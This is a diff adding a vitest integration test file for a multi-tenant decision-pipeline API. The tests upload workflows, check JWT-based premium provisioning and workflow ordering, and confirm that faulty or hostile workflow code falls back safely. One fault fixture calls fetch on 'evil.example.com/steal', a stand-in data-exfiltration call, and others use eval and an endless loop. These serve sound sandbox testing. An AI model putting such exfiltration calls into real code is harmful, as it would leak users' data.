@@ -1,0 +1,175 @@
+/**
+ * Workflows at their places in the decision pipeline, uploaded through the admin API like a customer would.
+ */
+import { exportSPKI, generateKeyPair, SignJWT } from "jose";
+import { describe, expect, it } from "vitest";
+import { call, createOrganization, publish } from "../../support/api";
+import { helloWorld } from "../../support/examples";
+import premiumProvisioning from "../../../examples/workflows/premium-provisioning.ts?raw";
+import helloWorldSurface from "../../../examples/workflows/hello-world-surface.ts?raw";
+
+const stripReference = (source: string) => source.replace(/^\/\/\/.*\n/m, "");
+
+async function setup(workflows: Record<string, unknown>, mutate?: (document: Record<string, any>) => void) {
+  const org = await createOrganization("Workflows");
+  const document = helloWorld();
+  document.surfaces["hello-world"].components = { banner: { cssSelector: "#banner" }, footer: {} };
+  document.workflows = workflows;
+  mutate?.(document);
+  await publish(org.live.secretKey, document, [org.live.id]);
+  return org;
+}
+
+const surfaceDecision = (key: string, identity: Record<string, unknown>) =>
+  call("POST", "/api/v1/surface-decisions", { key, body: { surfaceSlug: "hello-world", identity } });
+
+async function eventFor(key: string, eventId: string) {
+  for (let attempt = 0; attempt < 50; attempt++) {
+    const events = (await call("GET", `/api/v1/admin/events?limit=20`, { key })).body.events as any[];
+    const found = events.find((event) => event.id === eventId);
+    if (found) return found;
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+  throw new Error(`event ${eventId} not recorded`);
+}
+
+describe("the seed tutorial, part 4", () => {
+  it("provisions Premium from a JWT claim through a workflow uploaded with the admin API", async () => {
+    const org = await createOrganization("Tutorial 4");
+    const key = org.live.secretKey;
+    const keys = await generateKeyPair("RS256", { extractable: true });
+    await call("PUT", "/api/v1/admin/config", { key, body: helloWorld() });
+    expect(
+      (await call("POST", "/api/v1/admin/auth-methods", { key, body: { slug: "test-jwt", publicKey: await exportSPKI(keys.publicKey), identifierClaim: "email" } })).status,
+    ).toBe(201);
+    const created = await call("POST", "/api/v1/admin/workflows", { key, body: { slug: "premium-provisioning", type: "provisioning", source: premiumProvisioning } });
+    expect(created.status).toBe(201);
+    await call("POST", "/api/v1/admin/workflows", { key, body: { slug: "hello-surface", type: "surface", surface: "hello-world", source: helloWorldSurface } });
+    const version = await call("POST", "/api/v1/admin/versions", { key });
+    await call("POST", `/api/v1/admin/environments/${org.live.id}/deployments`, { key, body: { versionId: version.body.id } });
+
+    const sign = (claims: Record<string, unknown>) => new SignJWT(claims).setProtectedHeader({ alg: "RS256" }).sign(keys.privateKey);
+    const premium = await surfaceDecision(org.live.publishableKey, { userJwt: await sign({ sub: "1", email: "test@example.com", premium: true }) });
+    expect(premium.status).toBe(200);
+    expect(premium.body.features.widget.properties.enabled).toEqual({ type: "meterable", counterId: expect.stringMatching(/^default:feat_/), hasAccess: true, isFallback: false });
+    expect(premium.body.features.widget.properties.premium).toEqual({ type: "boolean", value: true, isFallback: false });
+    expect(premium.body.surfaceBehavior).toEqual({
+      properties: { userMessage: "Hello, test@example.com", isAuthenticated: true, widgetAccess: true, premiumWidgets: true, remainingWidgets: null },
+    });
+
+    const regular = await surfaceDecision(org.live.publishableKey, { userJwt: await sign({ sub: "2", email: "plain@example.com" }) });
+    expect(regular.body.features.widget.properties.enabled).toMatchObject({ hasAccess: true, consumedUnits: 1, totalUnits: 3 });
+    expect(regular.body.surfaceBehavior.properties).toMatchObject({ premiumWidgets: false, remainingWidgets: 2 });
+    const record = await eventFor(key, premium.body.eventId);
+    expect(record.record.plans).toEqual(["registered", "premium"]);
+    expect(record.record.planSources.premium).toEqual(["workflow"]);
+    expect(record.record.workflows.map((w: any) => [w.slug, w.ok])).toEqual(expect.arrayContaining([["premium-provisioning", true], ["hello-surface", true]]));
+  });
+});
+
+describe("each workflow type", () => {
+  it("runs middleware, feature, surface and component workflows in order", async () => {
+    const org = await setup({
+      tag: {
+        type: "middleware",
+        source: `export default ({ identity }) => identity.identifier === "blocked" ? { fail: { status: 451, message: "unavailable here" } } : { identifier: identity.identifier + "-mw" };`,
+      },
+      "premium-for-group-a": { type: "feature", feature: "widget", source: `export default ({ identity }) => ({ premium: identity.identifier.endsWith("-mw") });` },
+      surface: {
+        type: "surface",
+        surface: "hello-world",
+        source: `export default ({ features, identity }) => ({ properties: { who: identity.identifier, premium: features.widget.properties.premium.value } });`,
+      },
+      banner: {
+        type: "component",
+        surface: "hello-world",
+        component: "banner",
+        source: `export default ({ surfaceProperties, componentSlug }) => ({ content: "hi " + surfaceProperties.who, properties: { slot: componentSlug } });`,
+      },
+    });
+    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "alice" });
+    expect(result.status, JSON.stringify(result.body)).toBe(200);
+    expect(result.body.identity.identifier).toBe("alice-mw");
+    expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: true, isFallback: false });
+    expect(result.body.surfaceBehavior).toEqual({ properties: { who: "alice-mw", premium: true } });
+    expect(result.body.componentBehaviors).toEqual({
+      banner: { content: "hi alice-mw", properties: { slot: "banner" }, metadata: { cssSelector: "#banner" } },
+      footer: {},
+    });
+    const blocked = await surfaceDecision(org.live.secretKey, { userIdentifier: "blocked" });
+    expect(blocked.status).toBe(451);
+    expect(blocked.body).toMatchObject({ status: "error", statusCode: 451, message: "unavailable here" });
+  });
+
+  it("skips components when the surface workflow replaces the response", async () => {
+    const org = await setup({
+      gate: { type: "surface", surface: "hello-world", source: `export default () => ({ http: { status: 302, headers: { location: "/login" }, body: "" } });` },
+      banner: { type: "component", surface: "hello-world", component: "banner", source: `export default () => ({ content: "never" });` },
+    });
+    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "bob" });
+    expect(result.body.componentsSkipped).toBe(true);
+    expect(result.body.componentBehaviors).toEqual({});
+    expect(result.body.surfaceBehavior.http).toEqual({ status: 302, headers: { location: "/login" }, body: "" });
+  });
+});
+
+describe("faults degrade to the fallback", () => {
+  const faults: Record<string, string> = {
+    throws: `export default () => { throw new Error("boom"); };`,
+    loops: `export default () => { while (true) {} };`,
+    "bad-shape": `export default () => 42;`,
+    evals: `export default () => [eval("'premium'")];`,
+    "new-function": `export default () => [new Function("return 'premium'")()];`,
+    fetches: `export default async () => { await fetch("https://evil.example.com/steal"); return ["premium"]; };`,
+    slow: `export default () => new Promise((resolve) => setTimeout(() => resolve(["premium"]), 2000));`,
+  };
+  for (const [name, source] of Object.entries(faults)) {
+    it(`a provisioning workflow that ${name} adds no plans and is recorded`, async () => {
+      const org = await setup({ faulty: { type: "provisioning", source } });
+      const result = await surfaceDecision(org.live.secretKey, { userIdentifier: `user-${name}` });
+      expect(result.status).toBe(200);
+      expect(result.body.features.widget.properties.premium).toEqual({ type: "boolean", value: false, isFallback: false });
+      const event = await eventFor(org.live.secretKey, result.body.eventId);
+      expect(event.record.plans).toEqual(["registered"]);
+      expect(event.record.workflows).toEqual([expect.objectContaining({ slug: "faulty", ok: false, error: expect.any(String) })]);
+    });
+  }
+
+  it("a required workflow that fails answers 531", async () => {
+    const org = await setup({ strict: { type: "provisioning", required: true, source: faults.throws! } });
+    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "strict" });
+    expect(result.status).toBe(531);
+    expect(result.body).toMatchObject({ status: "error", statusCode: 531, code: "workflow_error" });
+  });
+
+  it("a version whose workflow does not compile is refused with its line and column", async () => {
+    const org = await createOrganization("Broken");
+    const document = helloWorld();
+    document.workflows = { broken: { type: "provisioning", source: "const a: number = 1;\nexport default () => [;\n" } };
+    await call("PUT", "/api/v1/admin/config", { key: org.live.secretKey, body: document });
+    const version = await call("POST", "/api/v1/admin/versions", { key: org.live.secretKey });
+    expect(version.status).toBe(400);
+    expect(version.body.details).toEqual([{ path: "workflows.broken.source", message: expect.stringMatching(/line 2, column \d+/) }]);
+  });
+});
+
+describe("utils are scoped to the tenant", () => {
+  it("custom data written by tenant A's workflow is invisible to tenant B's", async () => {
+    const writer = `export default async ({ identity, utils }) => { await utils.customData.set("secret", "A-" + identity.identifier); return {}; };`;
+    const reader = `export default async ({ utils }) => ({ properties: { seen: await utils.customData.get("secret") } });`;
+    const a = await setup({ write: { type: "middleware", source: writer }, read: { type: "surface", surface: "hello-world", source: reader } });
+    const b = await setup({ read: { type: "surface", surface: "hello-world", source: reader } });
+    const first = await surfaceDecision(a.live.secretKey, { userIdentifier: "shared@example.com" });
+    expect(first.body.surfaceBehavior.properties.seen).toBe("A-shared@example.com");
+    const other = await surfaceDecision(b.live.secretKey, { userIdentifier: "shared@example.com" });
+    expect(other.body.surfaceBehavior.properties.seen).toBeNull();
+  });
+
+  it("provisioning workflows get read-only utils", async () => {
+    const org = await setup({ sneaky: { type: "provisioning", source: `export default async ({ utils }) => { await utils.customData.set("x", 1); return ["premium"]; };` } });
+    const result = await surfaceDecision(org.live.secretKey, { userIdentifier: "ro" });
+    expect(result.body.features.widget.properties.premium.value).toBe(false);
+    const event = await eventFor(org.live.secretKey, result.body.eventId);
+    expect(event.record.workflows[0].error).toMatch(/read-only/);
+  });
+});
